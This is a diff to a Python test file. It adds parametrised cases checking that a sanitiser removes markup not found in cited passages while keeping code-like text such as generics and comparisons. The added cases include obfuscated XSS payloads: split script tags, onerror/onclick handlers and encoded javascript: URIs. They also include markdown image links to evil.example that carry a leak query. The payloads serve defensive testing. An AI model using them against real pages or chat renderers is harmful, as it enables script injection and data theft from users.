@@ -119,7 +119,8 @@ KNOWN = result(text="See https://docs.example/a?b=1 and [x](https://docs.example
         ("<img src=https://e.x/p.png onerror=alert(1)>a", "a"),
         ("<a href='x'>a</a> <script>b</script", "a b"),
         ("[ref]: https://e.x/p", f"[ref]: {GONE}"),
-        ("data:text/html,<b>", f"{GONE}<b>"),
+        ("data:text/html,<b>", GONE),
+        ("Enter the data: a name", "Enter the data: a name"),
         ("a list[int] of 3 < 4, see [1][2]", "a list[int] of 3 < 4, see [1][2]"),
         ("at 10:30 the ratio 2:1 holds", "at 10:30 the ratio 2:1 holds"),
     ],
@@ -128,10 +129,74 @@ def test_what_no_cited_source_holds_is_taken_out(text, expected):
     assert neutralise(text, [KNOWN]) == expected
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<scr<script>ipt>fetch(travel)</scr</script>ipt>",
+        "<im<img>g src=x onerror=refund()>",
+        "<details open ontoggle=refund()>",
+        "<<b>img src=x onerror=refund()>",
+        "<[img](c) src=x onerror=refund()>",
+        "]<[b](c)>(https:evil.example)",
+        "<img alt='<' src=x onerror=refund()>",
+        "<string a<' onclick=refund()>",
+        "<string onclick=refund()>",
+        "<script>refund()</script>",
+        "<x:/onclick=refund()>",
+        "<!-- <?x </ b>",
+        "![refund![of](c)](https:\\\\evil.example/leak?d=14days)",
+        "!<b>[refund](https:/<b>/evil.example/x)",
+        "[a[refund](c)](https:\\\\evil.example/x)",
+        "![a![b](c)](https:&#47;&#47;evil.example/x)",
+        '<div onmouseover=alert(1) style="background:url(https:\\2f\\2f evil.example)">',
+        "[ref]: https:\\\\evil.example/x",
+        "[ref]: jav&#97;script:alert(1)",
+        "[ref]: /\\evil.example/x",
+        "mailto:x@evil.example",
+        "<javascript&colon;alert(1)>",
+        "java<b>script:alert(1)",
+        "<x:/evil.example?14>",
+    ],
+)
+def test_what_is_left_of_a_mark_within_a_mark_does_nothing(text):
+    cited = result(text="A List<String> <script> <x:/onclick=refund()>", link=None)
+    left = neutralise(f"Yes {text} it is.", [cited])
+    assert not re.search(r"<(?!string>)[a-z/!?]|!\[|\]\(|evil|script:|alert\(1\)>", left, re.I)
+    assert neutralise(left, [cited]) == left
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Use List<String> here.",
+        "Map<String, List<Integer>> holds x <y> and </y>.",
+        "It is so if a < b, a <= b or a << 2.",
+        "[ref]: https://docs.example/c",
+        "See <https://docs.example/c>.",
+        "[note]: the rate of x[0]",
+        "[note]: 10:30 or C:\\Users",
+    ],
+)
+def test_code_and_addresses_of_the_cited_passage_stay(text):
+    held = "List<String>, Map<String, List<Integer>>, x <y> and </y>; https://docs.example/c"
+    assert neutralise(text, [result(text=held, link=None)]) == text
+
+
+def test_a_comparison_that_no_passage_holds_is_only_spaced():
+    assert neutralise("It is so if a <b and c.", [KNOWN]) == "It is so if a < b and c."
+
+
 MUCH = 400_000  # characters that take hours where each is looked at from each other
 
 
-@pytest.mark.parametrize("much", [" " * MUCH, "[a](" + " " * 5_000 + "x", "![" * 9_000])
+@pytest.mark.parametrize(
+    "much",
+    [" " * MUCH, "[a](" + " " * 5_000 + "x", "![" * 9_000]
+    + [
+        mark * 9_000
+        for mark in ("<", "<a", "](", "]:", "&#0", "<x><", "</a", "a:", "\\2f", "!<b>[")
+    ],
+)
 def test_a_flood_of_one_character_is_read_in_time_linear_in_it(much):
     said = ClaimReader()
     claims = [*said.feed(f"It is so{much}[1]. More"), *said.end()]
